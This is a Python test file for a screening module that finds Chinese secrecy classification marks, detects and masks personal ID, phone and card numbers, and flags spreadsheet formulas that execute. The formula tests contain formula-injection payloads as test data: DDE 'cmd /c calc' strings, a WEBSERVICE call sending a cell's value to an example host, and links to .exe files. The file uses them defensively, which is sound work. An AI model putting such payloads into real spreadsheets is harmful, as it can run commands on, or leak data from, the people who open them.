"""密级 marks, people's numbers and commands in texts."""

import pytest

from evidence.facts_files import Mark, MarkKind
from evidence.text.marks import (
    masked,
    personal_numbers,
    runs,
    runs_as_text,
    secret_marks,
    secret_name,
)

IDENTITY = "110101190001010014"


@pytest.mark.parametrize(
    ("line", "mark"),
    [
        ("机密★1年", "机密★1年"),
        ("  秘密 ★ 6个月  ", "秘密★6个月"),
        ("绝密★", "绝密★"),
        ("密级：机密", "密级：机密"),
        ("机 密", "机密"),
        ("秘密", "秘密"),
        ("000012  机密★长期", "机密★长期"),
        ("（秘密★2年）", "秘密★2年"),
        ("机 密 ★ 1年", "机密★1年"),
    ],
)
def test_marks_of_secrecy(line: str, mark: str) -> None:
    assert list(secret_marks([line])) == [mark]


@pytest.mark.parametrize(
    "line",
    [
        "学习贯彻保守国家秘密法",
        "保护商业秘密和个人隐私",
        "公文首页左上角标注“机密★1年”的，按规定管理",
        "密级管理台账",
        "机密级计算机不得联网",
        "秘密事项清单",
        "★秘书处",
    ],
)
def test_running_text_about_secrets(line: str) -> None:
    assert list(secret_marks([line])) == []


def test_a_word_alone_is_a_mark_at_the_top_only() -> None:
    lines = ["标题", *["正文"] * 20, "秘密", "秘密★1年"]
    assert list(secret_marks(lines)) == ["秘密★1年"]


@pytest.mark.parametrize(
    ("name", "mark"),
    [
        ("机密★1年_关于某事的通知.pdf", "机密★1年"),
        ("（秘密）名单.xlsx", "秘密"),
        ("【绝密】方案.docx", "绝密"),
        ("2024/秘密.docx", "秘密"),
        ("会议纪要_机密.pdf", "机密"),
    ],
)
def test_names_that_say_so(name: str, mark: str) -> None:
    assert secret_name(name) == mark


@pytest.mark.parametrize(
    "name",
    [
        "保守国家秘密法宣传.pdf",
        "商业秘密保护指引.pdf",
        "秘密级文件管理制度.pdf",
        "关于机密文件管理的通知.pdf",
        "保密承诺书.pdf",
    ],
)
def test_names_about_secrets(name: str) -> None:
    assert secret_name(name) == ""


@pytest.mark.parametrize(
    ("text", "kind", "shown"),
    [
        (f"身份证号{IDENTITY}，", MarkKind.IDENTITY, "1101**********0014"),
        ("11010519491231002X", MarkKind.IDENTITY, "1101**********002X"),
        ("11010519491231002x", MarkKind.IDENTITY, "1101**********002X"),
        ("联系电话：13800000000", MarkKind.MOBILE, "138****0000"),
        ("电话号码13800000000。", MarkKind.MOBILE, "138****0000"),
        ("138 0000 0000", MarkKind.MOBILE, "138****0000"),
        ("138-0000-0000", MarkKind.MOBILE, "138****0000"),
        ("+8613800000000", MarkKind.MOBILE, "138****0000"),
        ("+86 138 0000 0000", MarkKind.MOBILE, "138****0000"),
        ("008613800000000", MarkKind.MOBILE, "138****0000"),
        ("电话１３８００００００００", MarkKind.MOBILE, "138****0000"),
        ("110101 19000101 0014", MarkKind.IDENTITY, "1101**********0014"),
        ("１１０１０５１９４９１２３１００２Ｘ", MarkKind.IDENTITY, "1101**********002X"),
        ("１１０１０５１９４９１２３１００２ｘ", MarkKind.IDENTITY, "1101**********002X"),
        ("６２２２０２０００００００００７", MarkKind.CARD, "6222********0007"),
        ("150102190001010018", MarkKind.IDENTITY, "1501**********0018"),
        ("6222021001116245702", MarkKind.CARD, "6222***********5702"),
        ("6222 0210 0111 6245 702", MarkKind.CARD, "6222***********5702"),
        ("银行卡号：4111111111111111", MarkKind.CARD, "4111********1111"),
    ],
)
def test_numbers_of_people(text: str, kind: MarkKind, shown: str) -> None:
    assert personal_numbers(text) == [Mark(kind, shown)]


@pytest.mark.parametrize(
    "text",
    [
        "110101190001010013",
        "110101190013010014",
        "990101190001010014",
        "12800000000",
        "138000000001",
        "0.13800000000",
        "A13800000000",
        "https://www.example.gov.cn/art/13800000000.html",
        "?id=13800000000",
        "执法证号：15010212345",
        "证件编号 15010212345",
        "案号15010212345",
        "发票号码13800000000",
        "（2024）内0102民初13800000000号",
        "金额13800000000.00元",
        "合计13800000000元",
        "面积13800000000平方米",
        "110101 19000101 0013",
        "8613800000000",
        "6222021001116245703",
        "4111111111111111",
        "2024-01-01 2024-12-31",
        "91150102MA0000000X",
        "0471-6218033",
    ],
)
def test_other_numbers(text: str) -> None:
    assert personal_numbers(text) == []


def test_each_number_is_told_once() -> None:
    text = f"{IDENTITY} 13800000000 {IDENTITY} 13900000000"
    assert [mark.shown for mark in personal_numbers(text)] == [
        "1101**********0014",
        "138****0000",
        "139****0000",
    ]


def test_many_numbers_that_begin_alike_are_codes() -> None:
    codes = [f"150102{number:05}" for number in range(4)]
    assert personal_numbers(" ".join(codes)) == []
    assert len(personal_numbers(" ".join(codes[:3]))) == 3


def test_codes_of_a_place_and_a_day_whose_last_digit_happens_to_be_right() -> None:
    codes = [f"1501022024011500{number:02}" for number in range(40)]
    lucky = [code for code in codes if personal_numbers(code)]
    assert lucky
    assert personal_numbers("\n".join(codes)) == []
    assert len(personal_numbers("\n".join([*codes, IDENTITY]))) == 1


def test_codes_that_look_like_cards() -> None:
    codes = [f"62010220240115{number:04}" for number in range(40)]
    assert any(personal_numbers(code) for code in codes)
    assert personal_numbers("\n".join(codes)) == []


def test_many_numbers_that_begin_alike_in_a_list_of_people() -> None:
    town = [f"1394770{number:04}" for number in range(4)]
    others = ["13800000000", "15000000000", "15800000000", "18700000000"]
    assert len(personal_numbers(" ".join(town + others))) == 8
    assert len(personal_numbers(" ".join(town + others[:3]))) == 3


@pytest.mark.parametrize(
    ("digits", "shown"),
    [("13800001234", "138****1234"), ("6222021001116245", "6222********6245")],
)
def test_masking(digits: str, shown: str) -> None:
    assert masked(digits) == shown


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "+cmd|' /C calc'!A0",
        'WEBSERVICE("http://www.example.com/"&A1)',
        'IF(A1>0,IMPORTXML("http://x","//a"),0)',
        'HYPERLINK("file:///c:/a.exe","点击")',
        'HYPERLINK("\\\\server\\a.exe")',
        "MSEXCEL|'\\..\\..\\a.exe'!A1",
        'DDE("cmd";"/c calc")',
    ],
)
def test_formulas_that_run(formula: str) -> None:
    assert runs(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(B2:B9)",
        "ROW()-3",
        'IF(A1="是","有","无")',
        "VLOOKUP(A1,CALLS!A:B,2)",
        'HYPERLINK("https://www.example.gov.cn/","网址")',
        'HYPERLINK("D:\\资料\\通知.pdf","通知")',
        'HYPERLINK("file:///D:/资料/通知.docx")',
        "Sheet1!A1",
    ],
)
def test_formulas_that_only_compute(formula: str) -> None:
    assert not runs(formula)


@pytest.mark.parametrize("cell", ["=SUM(A1)", "=cmd|' /C calc'!A0", "@SUM(1)", "+cmd|'x'!A1"])
def test_texts_that_become_formulas(cell: str) -> None:
    assert runs_as_text(cell)


@pytest.mark.parametrize("cell", ["=1+1", "-无", "+86", "@某某", "-N/A", "-", "a=b", "--"])
def test_texts_that_stay_texts(cell: str) -> None:
    assert not runs_as_text(cell)
